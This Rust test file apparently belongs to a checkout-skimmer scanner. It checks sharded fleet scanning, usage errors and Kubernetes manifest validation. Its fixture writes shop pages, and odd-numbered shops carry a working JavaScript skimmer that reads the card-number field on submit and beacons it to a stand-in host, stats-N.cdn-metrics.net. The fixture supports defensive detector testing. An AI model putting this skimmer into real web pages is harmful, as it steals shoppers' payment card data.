//! Fleets: `--targets-file` and `--shard I/N`. Ten shops split over three shards must be
//! scanned exactly once between them, with the same findings as one unsharded run, and the
//! same shop must land on the same shard every time.

mod common;

use common::scan_json;
use std::collections::BTreeSet;
use std::path::Path;

/// A small shop's checkout page; odd-numbered shops carry a skimmer that sends the card number
/// to a collector named after the shop.
fn write_shop(root: &Path, n: usize) -> String {
    let dir = root.join(format!("shop-{n}"));
    std::fs::create_dir_all(dir.join("checkout")).unwrap();
    let skimmer = if n % 2 == 1 {
        format!(
            "document.getElementById('checkout').addEventListener('submit', function () {{\n\
             var c = document.getElementById('cc-number').value;\n\
             new Image().src = 'https://stats-{n}.cdn-metrics.net/p.gif?d=' + encodeURIComponent(c);\n\
             }});"
        )
    } else {
        "document.getElementById('checkout').addEventListener('submit', function () {\n\
         document.getElementById('pay').disabled = true;\n});"
            .to_string()
    };
    std::fs::write(
        dir.join("checkout/index.html"),
        format!(
            "<!doctype html><html><head><title>Shop {n} checkout</title></head><body>\n\
             <form id=\"checkout\" action=\"/order\" method=\"post\">\n\
             <input id=\"cc-number\" name=\"cc_number\" autocomplete=\"cc-number\">\n\
             <input name=\"cc_exp\" autocomplete=\"cc-exp\"><input name=\"cvv\" autocomplete=\"cc-csc\">\n\
             <button id=\"pay\">Pay</button></form>\n<script>\n{skimmer}\n</script>\n</body></html>\n"
        ),
    )
    .unwrap();
    dir.to_string_lossy().into_owned()
}

/// (rule, page, hosts) of every finding: what a fleet operator compares between runs.
fn finding_set(report: &serde_json::Value) -> BTreeSet<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| format!("{} {} {}", f["rule"], f["page"], f["hosts"]))
        .collect()
}

fn pages_of(report: &serde_json::Value) -> BTreeSet<String> {
    report["pages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["url"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn ten_shops_over_three_shards_are_each_scanned_once_with_the_same_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let shops: Vec<String> = (0..10).map(|n| write_shop(tmp.path(), n)).collect();
    let list = tmp.path().join("targets.txt");
    let mut text = String::from("# the fleet\n\n");
    for s in &shops {
        text.push_str(&format!("{s}   # owner: team-{}\n", s.len() % 3));
    }
    std::fs::write(&list, text).unwrap();
    let list = list.to_string_lossy().into_owned();

    let (code, all, _) = scan_json(&["--targets-file", &list]);
    assert_eq!(code, 1, "five shops carry a skimmer");
    assert_eq!(pages_of(&all).len(), 10);
    let all_findings = finding_set(&all);
    let critical_hosts: BTreeSet<String> = all["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "critical")
        .flat_map(|f| f["hosts"].as_array().unwrap().clone())
        .map(|h| h.as_str().unwrap().to_string())
        .collect();
    assert_eq!(critical_hosts.len(), 5, "{critical_hosts:?}");

    let mut seen_pages: Vec<String> = Vec::new();
    let mut union = BTreeSet::new();
    let mut shard_pages = Vec::new();
    for i in 0..3 {
        let shard = format!("{i}/3");
        let (code, r, _) = scan_json(&["--targets-file", &list, "--shard", &shard]);
        assert!(code == 0 || code == 1, "shard {shard} exit {code}");
        assert_eq!(r["complete"], true);
        let pages = pages_of(&r);
        seen_pages.extend(pages.iter().cloned());
        union.extend(finding_set(&r));
        shard_pages.push(pages);
    }
    seen_pages.sort();
    let unique: BTreeSet<String> = seen_pages.iter().cloned().collect();
    assert_eq!(seen_pages.len(), 10, "every shop scanned exactly once");
    assert_eq!(unique, pages_of(&all));
    assert_eq!(union, all_findings);

    // Run after run, and whatever the order of the file, a shop stays on its shard.
    let reversed = tmp.path().join("reversed.txt");
    let mut rev = shops.clone();
    rev.reverse();
    std::fs::write(&reversed, rev.join("\n")).unwrap();
    for (i, expected) in shard_pages.iter().enumerate() {
        let (_, r, _) = scan_json(&[
            "--targets-file",
            &reversed.to_string_lossy(),
            "--shard",
            &format!("{i}/3"),
        ]);
        assert_eq!(&pages_of(&r), expected, "shard {i} moved shops");
    }
}

#[test]
fn command_line_targets_and_the_file_combine_without_repeats() {
    let tmp = tempfile::tempdir().unwrap();
    let a = write_shop(tmp.path(), 0);
    let b = write_shop(tmp.path(), 1);
    let list = tmp.path().join("t.txt");
    std::fs::write(&list, format!("{a}\n{b}\n")).unwrap();
    let (code, r, _) = scan_json(&[&a, "--targets-file", &list.to_string_lossy()]);
    assert_eq!(code, 1);
    assert_eq!(pages_of(&r).len(), 2);
}

#[test]
fn bad_fleet_options_are_usage_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let shop = write_shop(tmp.path(), 0);
    for (args, needle) in [
        (vec![shop.as_str(), "--shard", "3/3"], "--shard takes I/N"),
        (vec![shop.as_str(), "--shard", "x"], "--shard takes I/N"),
        (
            vec!["--targets-file", "/nonexistent/targets.txt"],
            "cannot read",
        ),
    ] {
        let out = common::skimscan().arg("scan").args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle), "{args:?}: {err}");
    }
    // A file with two targets on one line names the line.
    let bad = tmp.path().join("bad.txt");
    std::fs::write(&bad, format!("# ok\n{shop} {shop}\n")).unwrap();
    let out = common::skimscan()
        .args(["scan", "--targets-file", &bad.to_string_lossy()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("bad.txt:2"));
    // An empty list (only comments) is a usage error, not a clean scan of nothing.
    let empty = tmp.path().join("empty.txt");
    std::fs::write(&empty, "# nothing yet\n").unwrap();
    let out = common::skimscan()
        .args(["scan", "--targets-file", &empty.to_string_lossy()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_shard_that_owns_no_target_reports_an_empty_complete_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let shop = write_shop(tmp.path(), 1);
    let owner = skimscan::fleet::Shard::owner_of(&shop, 5);
    let other = (owner + 1) % 5;
    let (code, r, _) = scan_json(&[&shop, "--shard", &format!("{other}/5")]);
    assert_eq!(code, 0);
    assert_eq!(r["complete"], true);
    assert_eq!(pages_of(&r).len(), 0);
    let (code, r, _) = scan_json(&[&shop, "--shard", &format!("{owner}/5")]);
    assert_eq!(code, 1);
    assert_eq!(pages_of(&r).len(), 1);
}

#[test]
fn the_kubernetes_manifests_are_valid() {
    // kubernetes-validate (PyPI) checks them against the API's own schemas; .ci/run installs it.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("deploy/kubernetes");
    let files: Vec<String> = ["configmap.yaml", "secret.yaml", "cronjob.yaml"]
        .iter()
        .map(|f| dir.join(f).to_string_lossy().into_owned())
        .collect();
    let run = std::process::Command::new("kubernetes-validate")
        .arg("--strict")
        .args(&files)
        .output();
    match run {
        Ok(out) => {
            let text = String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr);
            assert!(out.status.success(), "{text}");
            assert_eq!(text.matches("passed").count(), 3, "{text}");
        }
        Err(e) if std::env::var_os("CI").is_none() => {
            eprintln!(
                "skipped: kubernetes-validate not installed ({e}); `pip install kubernetes-validate`"
            );
        }
        Err(e) => panic!("kubernetes-validate is needed in CI: {e}"),
    }
    // The shard count in args must equal the Job's completions.
    let cron = std::fs::read_to_string(dir.join("cronjob.yaml")).unwrap();
    let completions = cron
        .lines()
        .find_map(|l| l.trim().strip_prefix("completions: "))
        .unwrap();
    assert!(cron.contains(&format!("$(JOB_COMPLETION_INDEX)/{completions}")));
}
